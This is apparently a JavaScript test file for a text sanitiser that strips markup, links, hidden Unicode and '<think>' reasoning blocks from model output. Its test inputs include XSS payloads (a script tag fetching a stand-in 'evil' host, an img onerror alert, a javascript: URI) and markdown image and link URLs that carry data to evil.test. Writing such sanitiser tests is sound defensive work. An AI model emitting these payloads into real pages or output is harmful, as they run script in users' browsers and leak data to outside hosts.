import { plainWords, withoutThinking } from './index.js';

it.each([
  ['<script>fetch("//evil")</script>Sales rose.', 'Sales rose.'],
  ['<img src=x onerror=alert(1)>Sales rose.', 'Sales rose.'],
  ['![p](https://evil.test/?d=1)Sales', 'pSales'],
  ['See [the report](https://evil.test/steal).', 'See the report.'],
  ['Open https://evil.test/?q=secret now', 'Open  now'],
  ['Open javascript:alert(1)', 'Open '],
  ['a\u202ebc\u200b', 'abc'],
  ['<iframe src=//evil', ''],
  ['Cash is ＄５，０００．', 'Cash is $5,000.'],
  ['＜img src=x＞Sales 𝟓½', 'Sales 51⁄2'],
  ['Assets < debts and 3 > 2', 'Assets < debts and 3 > 2'],
])('%s', (written, left) => expect(plainWords(written)).toBe(left));

it('drops what was thought aloud, also where it was cut off', () => {
  expect(withoutThinking('<think>they want $5</think>Sales rose.')).toBe('Sales rose.');
  expect(withoutThinking('Sales. <think>and')).toBe('Sales. ');
});
